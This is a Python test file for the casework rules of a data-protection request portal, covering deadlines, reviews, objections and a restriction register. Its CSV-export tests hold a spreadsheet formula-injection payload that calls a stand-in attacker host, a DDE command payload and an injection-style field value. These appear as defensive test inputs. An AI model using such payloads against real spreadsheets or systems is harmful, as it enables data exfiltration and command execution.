"""Casework rules (C1-C9), called as plain functions on a throwaway SQLite database.

No Flask here: the tables come from the models (create_all), which is what shows the
domain runs without the web layer. The migrated schema is exercised in
tests/functional/test_casework.py.
"""

from __future__ import annotations

import csv
import io
import secrets
from datetime import UTC, date, datetime, timedelta

import pytest
from sqlalchemy import create_engine, func, select
from sqlalchemy.orm import Session

from portal import outbox
from portal.cases import (
    allocation,
    audit,
    clock,
    closing,
    deadlines,
    disclosure,
    errors,
    identity,
    intake,
    messages,
    objections,
    register,
    review,
)
from portal.cases import casework_models as cm
from portal.cases import models as case_models
from portal.cases.actions import Action, allowed_actions
from portal.cases.casework_models import (
    CaseMessage,
    DecisionOutcome,
    DisclosureKind,
    ExemptionCode,
    MessageKind,
    RestrictionEntry,
    SearchOutcome,
)
from portal.cases.models import AuditEvent, Case, CaseKind, CaseState, Channel
from portal.cases.workflow import TransitionNotAllowed
from portal.encryption import EvidenceCipher
from portal.extensions import Base
from tests.factories import person, submission

CIPHER = EvidenceCipher(b"c" * 32)
CASEWORKER = "staff:1"
REVIEWER = "staff:2"
MONDAY = datetime(2026, 3, 2, 12, 0, tzinfo=UTC)  # received on Monday 2 March 2026


def at(day: date, hour: int = 12) -> datetime:
    """Noon UTC on a day (the same Europe/London date all year)."""
    return datetime(day.year, day.month, day.day, hour, tzinfo=UTC)


@pytest.fixture()
def session(tmp_path):
    assert case_models and cm and outbox  # their tables are in the metadata
    engine = create_engine(f"sqlite:///{tmp_path / 'casework.sqlite'}")
    Base.metadata.create_all(engine)
    with Session(engine) as session:
        session.add(case_models.AuditHead(id=1, last_hash=audit.GENESIS_HASH))
        session.commit()
        yield session
    engine.dispose()


def filed(session, *, kind: CaseKind = CaseKind.ACCESS, now: datetime = MONDAY, **changes) -> Case:
    details = (
        {"processing": {"processing": ["programme", "sharing"], "agencies": ["police"]}}
        if kind == CaseKind.OBJECTION
        else {"delivery": {"delivery": "download"}}
    )
    values = {"kind": kind, "details": details, **changes}
    return intake.submit_request(
        session,
        submission(**values),
        idempotency_key=secrets.token_urlsafe(16),
        cipher=CIPHER,
        now=now,
    )


def started(session, *, kind: CaseKind = CaseKind.ACCESS, now: datetime = MONDAY) -> Case:
    """A case whose identity was accepted on the day it arrived."""
    case = filed(session, kind=kind, now=now)
    identity.accept_identity(
        session, case, evidence_arrived_on=case.received_on, actor=CASEWORKER, now=now
    )
    return case


def searched(session, case: Case, *, now: datetime = MONDAY) -> None:
    disclosure.record_search(
        session,
        case,
        department="Early Help",
        searched_on=clock.received_on(now),
        outcome=SearchOutcome.RECORDS_FOUND,
        actor=CASEWORKER,
        now=now,
    )


def in_review(session, *, now: datetime = MONDAY) -> Case:
    case = started(session, now=now)
    searched(session, case, now=now)
    review.submit_for_review(session, case, actor=CASEWORKER, summary="12 records", now=now)
    return case


def event_count(session) -> int:
    return session.scalar(select(func.count(AuditEvent.id)))


def actions(session, case: Case) -> list[str]:
    events = session.scalars(
        select(AuditEvent.action).where(AuditEvent.case_id == case.id).order_by(AuditEvent.id)
    )
    return list(events)


def case_messages(session, case: Case) -> list[CaseMessage]:
    return list(
        session.scalars(
            select(CaseMessage).where(CaseMessage.case_id == case.id).order_by(CaseMessage.id)
        )
    )


def message_jobs(session) -> list[outbox.Job]:
    return list(
        session.scalars(
            select(outbox.Job)
            .where(outbox.Job.kind == "email.case_message")
            .order_by(outbox.Job.id)
        )
    )


# C1: identity and the start of the clock -------------------------------------------------


def test_accepting_identity_starts_the_clock_on_the_day_the_evidence_arrived(session):
    case = filed(session)
    identity.request_identity(
        session, case, what_is_needed="A utility bill", actor=CASEWORKER, now=at(date(2026, 3, 3))
    )
    identity.accept_identity(
        session,
        case,
        evidence_arrived_on=date(2026, 3, 10),
        actor=CASEWORKER,
        now=at(date(2026, 3, 12)),
    )
    assert case.state == CaseState.IN_PROGRESS
    assert case.clock_started_on == date(2026, 3, 10)
    assert case.due_on == date(2026, 4, 10)  # one month from the evidence, not the keying-in


def test_evidence_sent_with_the_request_counts_from_receipt(session):
    case = filed(session)
    identity.accept_identity(
        session,
        case,
        evidence_arrived_on=date(2026, 2, 20),  # before the request: the later date counts
        actor=CASEWORKER,
        now=at(date(2026, 3, 4)),
    )
    assert case.clock_started_on == date(2026, 3, 2)
    assert case.due_on == date(2026, 4, 2)


def test_evidence_cannot_arrive_in_the_future(session):
    case = filed(session)
    with pytest.raises(errors.InvalidDate):
        identity.accept_identity(
            session, case, evidence_arrived_on=date(2026, 3, 3), actor=CASEWORKER, now=MONDAY
        )


def test_identity_is_accepted_once(session):
    case = started(session)
    with pytest.raises(errors.CaseworkError, match="already been accepted"):
        identity.accept_identity(
            session, case, evidence_arrived_on=date(2026, 3, 2), actor=CASEWORKER, now=MONDAY
        )


def test_asking_for_identity_stops_the_clock_and_tells_the_requester(session):
    case = filed(session)
    message = identity.request_identity(
        session, case, what_is_needed="  Your son's birth certificate ", actor=CASEWORKER
    )
    assert case.state == CaseState.AWAITING_IDENTITY
    assert case.clock_started_on is None
    assert case.due_on is None
    assert deadlines.explain_case_due_date(case) is None
    assert message.kind == MessageKind.IDENTITY_REQUEST
    assert message.params == {"what_is_needed": "Your son's birth certificate"}
    assert [job.payload for job in message_jobs(session)] == [
        {"message_id": message.id, "case_id": case.id}
    ]


def test_asking_for_identity_needs_to_say_what(session):
    case = filed(session)
    with pytest.raises(errors.MissingText):
        identity.request_identity(session, case, what_is_needed="  ", actor=CASEWORKER)


# C4: clarification pauses the clock ------------------------------------------------------


def test_a_clarification_moves_the_due_date_by_the_days_paused_both_included(session):
    case = started(session)
    assert case.due_on == date(2026, 4, 2)
    pause = deadlines.ask_clarification(
        session, case, question="Which years?", actor=CASEWORKER, now=at(date(2026, 3, 9))
    )
    assert case.state == CaseState.AWAITING_CLARIFICATION
    assert pause.asked_on == date(2026, 3, 9)
    assert case.due_on == date(2026, 4, 2)  # floor while the pause is open
    deadlines.record_clarification_answer(
        session,
        case,
        answer="2019 to 2023",
        answered_on=date(2026, 3, 13),
        actor=CASEWORKER,
        now=at(date(2026, 3, 16)),
    )
    assert case.state == CaseState.IN_PROGRESS
    # 9-13 March is 5 days: 2 April + 5 = 7 April (Easter Monday is the 6th; no roll needed).
    assert case.due_on == date(2026, 4, 7)
    explanation = deadlines.explain_case_due_date(case)
    assert explanation is not None
    assert (explanation.pause_days, explanation.due) == (5, date(2026, 4, 7))


def test_a_clarification_asked_in_british_summer_time_uses_the_london_date(session):
    case = started(session, now=at(date(2026, 3, 30)))
    pause = deadlines.ask_clarification(
        session,
        case,
        question="Which school?",
        actor=CASEWORKER,
        now=datetime(2026, 4, 6, 23, 30, tzinfo=UTC),  # 00:30 BST on 7 April
    )
    assert pause.asked_on == date(2026, 4, 7)


def test_the_clarification_question_reaches_the_requester(session):
    case = started(session)
    deadlines.ask_clarification(session, case, question="Which years?", actor=CASEWORKER)
    [message] = messages.messages_for(session, case)
    assert message.kind == MessageKind.CLARIFICATION_REQUEST
    assert message.params["question"] == "Which years?"
    assert len(message_jobs(session)) == 1


def test_an_answer_cannot_predate_the_question(session):
    case = started(session)
    deadlines.ask_clarification(
        session, case, question="Which years?", actor=CASEWORKER, now=at(date(2026, 3, 9))
    )
    with pytest.raises(errors.InvalidDate):
        deadlines.record_clarification_answer(
            session,
            case,
            answer="All",
            answered_on=date(2026, 3, 8),
            actor=CASEWORKER,
            now=at(date(2026, 3, 10)),
        )


def test_an_answer_needs_an_open_question(session):
    case = started(session)
    with pytest.raises(errors.NoOpenPause):
        deadlines.record_clarification_answer(
            session, case, answer="All", answered_on=date(2026, 3, 2), actor=CASEWORKER, now=MONDAY
        )


def test_clarification_needs_a_running_clock(session):
    case = filed(session)
    with pytest.raises(TransitionNotAllowed):
        deadlines.ask_clarification(session, case, question="Which years?", actor=CASEWORKER)


# C3: extension -------------------------------------------------------------------------


def test_an_extension_gives_three_months_in_all_and_tells_the_requester(session):
    case = started(session)
    message = deadlines.extend(
        session,
        case,
        reason="Records in six departments",
        actor=CASEWORKER,
        now=at(date(2026, 4, 2)),  # the last day of the first month
    )
    assert case.extended
    assert case.due_on == date(2026, 6, 2)
    assert message.kind == MessageKind.EXTENSION_NOTICE
    assert message.params == {
        "reason": "Records in six departments",
        "previous_due_on": "2026-04-02",
        "due_on": "2026-06-02",
    }


def test_an_extension_is_refused_after_the_first_month(session):
    case = started(session)
    with pytest.raises(errors.ExtensionRefused, match="first month ended on 2026-04-02"):
        deadlines.extend(session, case, reason="Complex", actor=CASEWORKER, today=date(2026, 4, 3))
    assert not case.extended


def test_the_first_month_includes_clarification_pauses(session):
    case = started(session)
    deadlines.ask_clarification(
        session, case, question="Which years?", actor=CASEWORKER, now=at(date(2026, 3, 9))
    )
    deadlines.record_clarification_answer(
        session,
        case,
        answer="All",
        answered_on=date(2026, 3, 13),
        actor=CASEWORKER,
        now=at(date(2026, 3, 13)),
    )
    deadlines.extend(session, case, reason="Complex", actor=CASEWORKER, now=at(date(2026, 4, 7)))
    assert case.due_on == clock.due_date(
        date(2026, 3, 2), extended=True, pauses=[(date(2026, 3, 9), date(2026, 3, 13))]
    )


def test_an_open_pause_keeps_the_first_month_open(session):
    case = started(session)
    deadlines.ask_clarification(
        session, case, question="Which years?", actor=CASEWORKER, now=at(date(2026, 3, 30))
    )
    # Paused 30 March to 3 April so far (5 days): the first month now ends on 7 April.
    deadlines.extend(session, case, reason="Complex", actor=CASEWORKER, now=at(date(2026, 4, 3)))
    assert case.extended


def test_an_extension_is_refused_twice(session):
    case = started(session)
    deadlines.extend(session, case, reason="Complex", actor=CASEWORKER, now=MONDAY)
    with pytest.raises(errors.ExtensionRefused, match="already been extended"):
        deadlines.extend(session, case, reason="Still complex", actor=CASEWORKER, now=MONDAY)


def test_an_extension_needs_a_reason_and_a_running_clock(session):
    with pytest.raises(errors.MissingText):
        deadlines.extend(session, started(session), reason=" ", actor=CASEWORKER, now=MONDAY)
    with pytest.raises(errors.ClockNotStarted):
        deadlines.extend(session, filed(session), reason="Complex", actor=CASEWORKER, now=MONDAY)


# C6-C8: searches and the response --------------------------------------------------------


def test_a_department_not_searched_needs_a_reason(session):
    case = started(session)
    with pytest.raises(errors.MissingText, match="not searched"):
        disclosure.record_search(
            session,
            case,
            department="Housing",
            searched_on=date(2026, 3, 2),
            outcome=SearchOutcome.NOT_SEARCHED,
            actor=CASEWORKER,
            now=MONDAY,
        )
    search = disclosure.record_search(
        session,
        case,
        department="Housing",
        searched_on=date(2026, 3, 2),
        outcome=SearchOutcome.NOT_SEARCHED,
        reason_not_searched="The family never had a council tenancy",
        actor=CASEWORKER,
        now=MONDAY,
    )
    assert search.reason_not_searched == "The family never had a council tenancy"


def test_a_department_is_recorded_once_whatever_its_case_or_spacing(session):
    case = started(session)
    searched(session, case)  # "Early Help"
    for typed in ("Early Help", "  early   HELP ", "EARLY\tHelp"):
        with pytest.raises(errors.SearchAlreadyRecorded) as refused:
            disclosure.record_search(
                session,
                case,
                department=typed,
                searched_on=date(2026, 3, 2),
                outcome=SearchOutcome.NONE_HELD,
                actor=CASEWORKER,
                now=MONDAY,
            )
        assert str(refused.value) == (
            "A search of Early Help is already recorded for this case (searched on "
            "2 March 2026): each department is recorded once"
        )
    session.rollback()
    # Another department is another search; and another case may search Early Help too.
    disclosure.record_search(
        session,
        case,
        department="Early Help Hub East",
        searched_on=date(2026, 3, 2),
        outcome=SearchOutcome.NONE_HELD,
        actor=CASEWORKER,
        now=MONDAY,
    )
    searched(session, started(session))
    departments = session.scalars(
        select(cm.DepartmentSearch.department)
        .where(cm.DepartmentSearch.case_id == case.id)
        .order_by(cm.DepartmentSearch.id)
    )
    assert list(departments) == ["Early Help", "Early Help Hub East"]


def test_a_department_is_recorded_once_by_its_profile_key_whatever_its_name(session):
    """A row typed before departments had keys ("Housing Services", given the key housing by
    migration 0011) and a search picked from the profile's list ("Housing") are one
    department: the letter would otherwise list housing twice."""
    case = started(session)
    disclosure.record_search(
        session,
        case,
        department="Housing Services",
        department_key="housing",
        searched_on=date(2026, 3, 2),
        outcome=SearchOutcome.NONE_HELD,
        actor=CASEWORKER,
        now=MONDAY,
    )
    with pytest.raises(errors.SearchAlreadyRecorded, match="Housing Services is already"):
        disclosure.record_search(
            session,
            case,
            department="Housing",
            department_key="housing",
            searched_on=date(2026, 3, 2),
            outcome=SearchOutcome.RECORDS_FOUND,
            actor=CASEWORKER,
            now=MONDAY,
        )


def test_searches_wait_for_identity(session):
    case = filed(session)
    with pytest.raises(errors.CaseworkError, match="in progress"):
        searched(session, case)


def test_an_uploaded_item_is_encrypted_at_rest_and_bound_to_its_case(session):
    case = started(session)
    content = b"%PDF-1.7 case conference minutes"
    item = disclosure.add_disclosure_item(
        session,
        case,
        source_department="Social care",
        title="Case conference minutes",
        kind=DisclosureKind.UPLOADED,
        content=content,
        item_date=date(2025, 11, 3),
        exemptions=[ExemptionCode.THIRD_PARTY],
        redaction_note="Names of the other family members removed",
        actor=CASEWORKER,
        cipher=CIPHER,
        original_name="minutes.pdf",
        media_type="application/pdf",
        now=MONDAY,
    )
    assert item.encrypted is not None
    assert b"case conference" not in item.encrypted
    assert disclosure.decrypt_disclosure_item(case, item, cipher=CIPHER) == content
    assert item.exemptions == ["third_party"]
    other = started(session)
    with pytest.raises(ValueError, match="cannot be decrypted"):
        disclosure.decrypt_disclosure_item(other, item, cipher=CIPHER)


def test_an_exemption_must_be_explained_for_the_item(session):
    case = started(session)
    with pytest.raises(errors.MissingText, match="withheld"):
        disclosure.add_disclosure_item(
            session,
            case,
            source_department="Police",
            title="Incident log",
            kind=DisclosureKind.TYPED,
            content="Call received 21:04",
            item_date=date(2025, 6, 1),
            exemptions=[ExemptionCode.CRIME_PREVENTION],
            actor=CASEWORKER,
            now=MONDAY,
        )


def test_a_typed_item_needs_text_and_only_access_requests_have_items(session):
    with pytest.raises(errors.MissingText):
        disclosure.add_disclosure_item(
            session,
            started(session),
            source_department="Police",
            title="Incident log",
            kind=DisclosureKind.TYPED,
            content="",
            item_date=None,
            actor=CASEWORKER,
            now=MONDAY,
        )
    with pytest.raises(errors.WrongCaseKind):
        disclosure.add_disclosure_item(
            session,
            started(session, kind=CaseKind.OBJECTION),
            source_department="Police",
            title="Incident log",
            kind=DisclosureKind.TYPED,
            content="Call received 21:04",
            item_date=None,
            actor=CASEWORKER,
            now=MONDAY,
        )


def test_every_exemption_is_explained_to_staff_and_to_the_requester():
    assert set(disclosure.EXEMPTIONS) == set(ExemptionCode)
    for exemption in disclosure.EXEMPTIONS.values():
        assert exemption.staff_explanation and exemption.resident_explanation
        assert exemption.source.startswith("DPA 2018 Sch")


# Review --------------------------------------------------------------------------------


def test_a_draft_needs_a_recorded_search_before_review(session):
    case = started(session)
    with pytest.raises(errors.NoSearchRecorded):
        review.submit_for_review(session, case, actor=CASEWORKER, summary="All found")


def test_nobody_approves_their_own_draft(session):
    case = in_review(session)
    assert case.state == CaseState.IN_REVIEW
    with pytest.raises(errors.OwnDraft, match="Nobody approves their own draft"):
        review.approve(session, case, actor=CASEWORKER)
    assert case.state == CaseState.IN_REVIEW
    review.approve(session, case, actor=REVIEWER)
    assert case.state == CaseState.READY


def test_a_returned_draft_goes_back_with_comments(session):
    case = in_review(session)
    with pytest.raises(errors.MissingText):
        review.return_for_changes(session, case, actor=REVIEWER, comments="")
    review.return_for_changes(session, case, actor=REVIEWER, comments="Search Housing too")
    assert case.state == CaseState.IN_PROGRESS
    assert review.pending_review(session, case) is None
    with pytest.raises(TransitionNotAllowed):
        review.approve(session, case, actor=REVIEWER)


def test_the_requester_is_told_when_the_response_is_released(session):
    case = in_review(session)
    review.approve(session, case, actor=REVIEWER)
    closing.complete(session, case, actor=CASEWORKER, now=at(date(2026, 3, 20)))
    assert case.state == CaseState.COMPLETED
    assert case.closed_at is not None
    [message] = messages.messages_for(session, case)
    assert message.kind == MessageKind.RESPONSE_READY
    assert message.params["delivery"] == "download"
    assert "complain_to_ico" in message.params["rights"]


# C5: refusal ---------------------------------------------------------------------------


def test_only_the_reviewer_refuses(session):
    case = started(session)
    with pytest.raises(errors.ReviewerRequired):
        closing.refuse(
            session, case, actor=CASEWORKER, actor_role="caseworker", reasons="Repeated request"
        )
    assert case.state == CaseState.IN_PROGRESS


def test_a_refusal_needs_reasons_and_tells_the_requester_their_rights(session):
    case = started(session)
    with pytest.raises(errors.MissingText, match="reasons"):
        closing.refuse(session, case, actor=REVIEWER, actor_role="reviewer", reasons=" ")
    message = closing.refuse(
        session,
        case,
        actor=REVIEWER,
        actor_role="reviewer",
        reasons="The same request was answered in full last month",
    )
    assert case.state == CaseState.REFUSED
    assert case.closed_at is not None
    assert message.kind == MessageKind.REFUSAL
    assert message.params["reasons"] == "The same request was answered in full last month"
    assert {"complain_to_ico", "go_to_court"} <= set(message.params["rights"])


def test_a_closed_case_cannot_be_refused(session):
    case = filed(session)
    closing.record_withdrawal(session, case, actor=CASEWORKER, how_received=Channel.PHONE)
    with pytest.raises(TransitionNotAllowed):
        closing.refuse(session, case, actor=REVIEWER, actor_role="reviewer", reasons="Excessive")


# Withdrawal, intake, assignment, notes -----------------------------------------------------


def test_staff_record_a_withdrawal_received_by_phone(session):
    case = started(session)
    closing.record_withdrawal(session, case, actor=CASEWORKER, how_received="phone")
    assert case.state == CaseState.WITHDRAWN
    event = session.scalars(
        select(AuditEvent).where(AuditEvent.case_id == case.id).order_by(AuditEvent.id.desc())
    ).first()
    assert (event.action, event.actor, event.details) == (
        "request_withdrawn",
        CASEWORKER,
        {"how_received": "phone"},
    )
    jobs = session.scalars(
        select(outbox.Job).where(outbox.Job.kind == "email.request_withdrawn")
    ).all()
    assert [job.payload for job in jobs] == [{"case_id": case.id}]


def test_a_letter_counts_from_the_day_it_arrived_not_the_day_it_was_keyed_in(session):
    case = intake.log_staff_intake(
        session,
        submission(subject=person(email="")),
        channel=Channel.LETTER,
        received_at=datetime(2026, 2, 27, 9, 0, tzinfo=UTC),
        actor=CASEWORKER,
        idempotency_key="letter-2026-02-27-1",
        cipher=CIPHER,
        now=MONDAY,
    )
    assert case.channel == Channel.LETTER
    assert case.received_on == date(2026, 2, 27)
    assert case.due_on == date(2026, 3, 27)
    assert case.details["staff_intake"]["keyed_in_by"] == CASEWORKER
    assert actions(session, case) == ["request_submitted"]
    again = intake.log_staff_intake(
        session,
        submission(subject=person(email="")),
        channel=Channel.LETTER,
        received_at=datetime(2026, 2, 27, 9, 0, tzinfo=UTC),
        actor=CASEWORKER,
        idempotency_key="letter-2026-02-27-1",
        cipher=CIPHER,
        now=MONDAY,
    )
    assert again.id == case.id


def test_a_phone_request_just_after_midnight_bst_is_received_that_day(session):
    case = intake.log_staff_intake(
        session,
        submission(),
        channel=Channel.PHONE,
        received_at=datetime(2026, 3, 31, 23, 30, tzinfo=UTC),
        actor=CASEWORKER,
        idempotency_key=secrets.token_urlsafe(16),
        cipher=CIPHER,
        now=datetime(2026, 4, 1, 9, 0, tzinfo=UTC),
    )
    assert case.received_on == date(2026, 4, 1)


def test_staff_intake_refuses_online_and_future_requests(session):
    common = {
        "actor": CASEWORKER,
        "idempotency_key": secrets.token_urlsafe(16),
        "cipher": CIPHER,
        "now": MONDAY,
    }
    with pytest.raises(errors.CaseworkError, match="online"):
        intake.log_staff_intake(
            session, submission(), channel=Channel.ONLINE, received_at=MONDAY, **common
        )
    with pytest.raises(errors.InvalidDate):
        intake.log_staff_intake(
            session,
            submission(),
            channel=Channel.EMAIL,
            received_at=MONDAY + timedelta(hours=1),
            **common,
        )


def test_assignment_keeps_the_current_assignee(session):
    case = filed(session)
    allocation.assign(session, case, assignee="staff:7", actor=CASEWORKER)
    allocation.assign(session, case, assignee="staff:8", actor=CASEWORKER)
    assert allocation.assignee_of(session, case) == "staff:8"
    allocation.assign(session, case, assignee=None, actor=CASEWORKER)
    assert allocation.assignee_of(session, case) is None
    assert session.scalar(select(func.count(cm.CaseAssignment.id))) == 1


def test_notes_stay_out_of_the_audit_trail_and_are_allowed_on_closed_cases(session):
    case = filed(session)
    closing.record_withdrawal(session, case, actor=CASEWORKER, how_received=Channel.LETTER)
    note = allocation.add_note(
        session, case, text="Mother called: ICO complaint made", actor=CASEWORKER
    )
    event = session.scalars(select(AuditEvent).order_by(AuditEvent.id.desc()).limit(1)).one()
    assert event.details == {"note_id": note.id}
    with pytest.raises(errors.CaseClosed):
        allocation.assign(session, case, assignee="staff:7", actor=CASEWORKER)


# C9: objections --------------------------------------------------------------------------

AFFECTED = ["programme", "sharing:police", "national_study"]


def assessed(session, **grounds) -> Case:
    case = started(session, kind=CaseKind.OBJECTION)
    values = {
        "compelling_grounds": "Safeguarding concerns for two younger children",
        "public_interest_research": "The study is required by the national programme",
        **grounds,
    }
    objections.assess_objection(
        session,
        case,
        grounds_raised="Domestic abuse survivor; fears the police link",
        processing_affected=AFFECTED,
        actor=CASEWORKER,
        now=MONDAY,
        **values,
    )
    return case


def propose(session, case, outcome, upheld, reasons="Weighed as recorded"):
    return objections.propose_decision(
        session, case, outcome=outcome, upheld_processing=upheld, reasons=reasons, actor=CASEWORKER
    )


def test_the_objection_names_its_processing():
    case = Case(
        details={
            "processing": {
                "processing": ["national_study", "sharing"],
                "agencies": ["police", "dwp"],
            }
        }
    )
    assert objections.processing_objected_to(case) == [
        "national_study",
        "sharing:police",
        "sharing:dwp",
    ]


def test_an_assessment_accepts_known_processing_only(session):
    case = started(session, kind=CaseKind.OBJECTION)
    with pytest.raises(errors.ProcessingInvalid):
        objections.assess_objection(
            session,
            case,
            grounds_raised="Fear",
            processing_affected=["sharing:Police; DROP"],
            actor=CASEWORKER,
        )
    with pytest.raises(errors.ProcessingInvalid):
        objections.assess_objection(
            session, case, grounds_raised="Fear", processing_affected=[], actor=CASEWORKER
        )


@pytest.mark.parametrize(
    ("outcome", "upheld"),
    [
        (DecisionOutcome.PARTLY_UPHELD, AFFECTED),  # not a strict subset
        (DecisionOutcome.PARTLY_UPHELD, []),  # nothing upheld
        (DecisionOutcome.UPHELD, ["programme"]),  # upheld stops everything
        (DecisionOutcome.NOT_UPHELD, ["programme"]),  # not upheld stops nothing
        (DecisionOutcome.PARTLY_UPHELD, ["local_research"]),  # not in the objection
    ],
)
def test_a_decision_must_agree_with_its_outcome(session, outcome, upheld):
    case = assessed(session)
    with pytest.raises(errors.DecisionInvalid):
        propose(session, case, outcome, upheld)
    assert case.state == CaseState.IN_PROGRESS


@pytest.mark.parametrize(
    ("outcome", "upheld", "expected"),
    [
        (DecisionOutcome.UPHELD, [], AFFECTED),
        (DecisionOutcome.UPHELD, list(reversed(AFFECTED)), AFFECTED),
        (DecisionOutcome.PARTLY_UPHELD, ["sharing:police"], ["sharing:police"]),
        (DecisionOutcome.NOT_UPHELD, [], []),
    ],
)
def test_valid_decisions_go_to_review(session, outcome, upheld, expected):
    case = assessed(session)
    decision = propose(session, case, outcome, upheld)
    assert case.state == CaseState.IN_REVIEW
    assert decision.upheld_processing == expected
    assert review.pending_review(session, case) is not None


def test_a_decision_needs_reasons_and_an_assessment(session):
    with pytest.raises(errors.MissingText):
        propose(session, assessed(session), DecisionOutcome.UPHELD, [], reasons="")
    with pytest.raises(errors.NoAssessment):
        propose(session, started(session, kind=CaseKind.OBJECTION), DecisionOutcome.UPHELD, [])


def test_processing_continues_only_with_grounds_shown(session):
    """C9: without compelling grounds or legal claims the programme link-up must stop;
    without a public-interest task the research must stop."""
    case = assessed(session, compelling_grounds="", public_interest_research="")
    with pytest.raises(errors.ObjectionNotOverridden) as refused:
        propose(session, case, DecisionOutcome.NOT_UPHELD, [])
    # Said as the case page describes the processing, never by its stored key.
    assert str(refused.value) == (
        "The assessment shows no grounds to continue: "
        "Linking their information for the Think Family programme; "
        "Sharing their information with the police; "
        "Sending their information to the National Impact Study (ONS and NIESR). "
        "Uphold the objection for these, or reassess (C9)"
    )
    decision = propose(session, case, DecisionOutcome.UPHELD, [])
    assert decision.upheld_processing == AFFECTED


def test_legal_claims_let_public_task_processing_continue_but_not_research(session):
    case = assessed(session, compelling_grounds="", public_interest_research="", legal_claims=True)
    with pytest.raises(errors.ObjectionNotOverridden, match=r"continue: Sending .* Study"):
        propose(session, case, DecisionOutcome.NOT_UPHELD, [])
    decision = propose(session, case, DecisionOutcome.PARTLY_UPHELD, ["national_study"])
    assert decision.upheld_processing == ["national_study"]


def test_an_approved_decision_fills_the_register_and_tells_the_requester(session):
    case = assessed(session)
    propose(session, case, DecisionOutcome.PARTLY_UPHELD, ["sharing:police", "national_study"])
    with pytest.raises(errors.OwnDraft):
        objections.approve_decision(session, case, actor=CASEWORKER)
    entries = objections.approve_decision(
        session, case, actor=REVIEWER, now=datetime(2026, 3, 19, 23, 30, tzinfo=UTC)
    )
    assert case.state == CaseState.READY
    assert [e.processing for e in entries] == ["sharing:police", "national_study"]
    for entry in entries:
        assert entry.subject_person_id == case.subject_id
        assert entry.subject_name == "Anna Kowalska"
        assert entry.date_of_birth == date(1988, 2, 14)
        assert entry.from_date == date(2026, 3, 19)  # GMT in March: still the 19th in London
        assert entry.reference == case.reference
    [message] = messages.messages_for(session, case)
    assert message.kind == MessageKind.DECISION_READY
    assert message.params["outcome"] == "partly_upheld"
    assert message.params["continuing_processing"] == ["programme"]
    closing.complete(session, case, actor=CASEWORKER)
    assert case.state == CaseState.COMPLETED
    assert len(messages.messages_for(session, case)) == 1  # the decision was the message


def test_a_returned_decision_can_be_proposed_again(session):
    case = assessed(session)
    propose(session, case, DecisionOutcome.NOT_UPHELD, [])
    review.return_for_changes(session, case, actor=REVIEWER, comments="Uphold the study")
    propose(session, case, DecisionOutcome.PARTLY_UPHELD, ["national_study"])
    entries = objections.approve_decision(session, case, actor=REVIEWER)
    assert [e.processing for e in entries] == ["national_study"]


def test_access_and_objection_reviews_do_not_mix(session):
    with pytest.raises(errors.WrongCaseKind):
        objections.approve_decision(session, in_review(session), actor=REVIEWER)
    case = assessed(session)
    propose(session, case, DecisionOutcome.UPHELD, [])
    with pytest.raises(errors.WrongCaseKind):
        review.approve(session, case, actor=REVIEWER)


# The restriction register ------------------------------------------------------------------


def test_the_register_csv_cannot_smuggle_a_formula_into_a_spreadsheet(session):
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    case = started(session, kind=CaseKind.OBJECTION)
    case.subject.full_name = evil
    session.commit()
    objections.assess_objection(
        session, case, grounds_raised="Fear", processing_affected=["programme"], actor=CASEWORKER
    )
    propose(session, case, DecisionOutcome.UPHELD, [])
    objections.approve_decision(session, case, actor=REVIEWER, now=at(date(2026, 3, 5)))
    rows = register.restriction_register(session)
    assert [(r.subject_name, r.processing) for r in rows] == [(evil, "programme")]
    text = register.restriction_register_csv(rows)
    header, line = list(csv.reader(io.StringIO(text)))
    assert header[:2] == ["Reference", "Name"]
    assert line == [
        case.reference,
        "'" + evil,
        "1988-02-14",
        "programme",
        "Linking their information for the Think Family programme",
        "2026-03-05",
    ]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start):
    row = register.RestrictionRow(
        reference="TF-AAAA-AAAA",
        subject_name=f"{start}cmd|' /C calc'!A0",
        date_of_birth=None,
        processing="programme",
        description="x",
        from_date=date(2026, 3, 5),
    )
    [_header, line] = list(csv.reader(io.StringIO(register.restriction_register_csv([row]))))
    assert line[1].startswith("'" + start)
    assert line[2] == ""


# Every function: one audit event, one chain ------------------------------------------------


def test_every_casework_function_writes_exactly_one_audit_event(session):
    def once(call, *args, **kwargs):
        before = event_count(session)
        result = call(session, *args, **kwargs)
        assert event_count(session) == before + 1, call.__name__
        return result

    s = CASEWORKER
    access = filed(session)
    once(identity.request_identity, access, what_is_needed="Photo ID", actor=s)
    once(
        identity.accept_identity, access, evidence_arrived_on=date(2026, 3, 2), actor=s, now=MONDAY
    )
    once(allocation.assign, access, assignee="staff:3", actor=s)
    once(allocation.add_note, access, text="Large file", actor=s)
    once(deadlines.ask_clarification, access, question="Which years?", actor=s, now=MONDAY)
    once(
        deadlines.record_clarification_answer,
        access,
        answer="All",
        answered_on=date(2026, 3, 2),
        actor=s,
        now=MONDAY,
    )
    once(deadlines.extend, access, reason="Complex", actor=s, now=MONDAY)
    once(
        disclosure.record_search,
        access,
        department="Police",
        searched_on=date(2026, 3, 2),
        outcome=SearchOutcome.NONE_HELD,
        actor=s,
        now=MONDAY,
    )
    once(
        disclosure.add_disclosure_item,
        access,
        source_department="Schools",
        title="Attendance",
        kind=DisclosureKind.TYPED,
        content="96%",
        item_date=date(2025, 7, 1),
        actor=s,
        now=MONDAY,
    )
    once(review.submit_for_review, access, actor=s, summary="One item")
    once(review.return_for_changes, access, actor=REVIEWER, comments="Add Housing")
    once(review.submit_for_review, access, actor=s, summary="One item")
    once(review.approve, access, actor=REVIEWER)
    once(closing.complete, access, actor=s)

    once(closing.refuse, started(session), actor=REVIEWER, actor_role="reviewer", reasons="Repeat")
    once(closing.record_withdrawal, filed(session), actor=s, how_received=Channel.EMAIL)
    once(
        intake.log_staff_intake,
        submission(),
        channel=Channel.IN_PERSON,
        received_at=MONDAY,
        actor=s,
        idempotency_key=secrets.token_urlsafe(16),
        cipher=CIPHER,
        now=MONDAY,
    )

    objection = started(session, kind=CaseKind.OBJECTION)
    once(
        objections.assess_objection,
        objection,
        grounds_raised="Fear",
        processing_affected=["programme", "local_research"],
        compelling_grounds="Child protection plan in place",
        actor=s,
    )
    once(
        objections.propose_decision,
        objection,
        outcome=DecisionOutcome.PARTLY_UPHELD,
        upheld_processing=["local_research"],
        reasons="Research is not needed for this family",
        actor=s,
    )
    once(objections.approve_decision, objection, actor=REVIEWER)

    assert audit.verify(session) == event_count(session)


def test_a_broken_rule_writes_nothing(session):
    case = in_review(session)
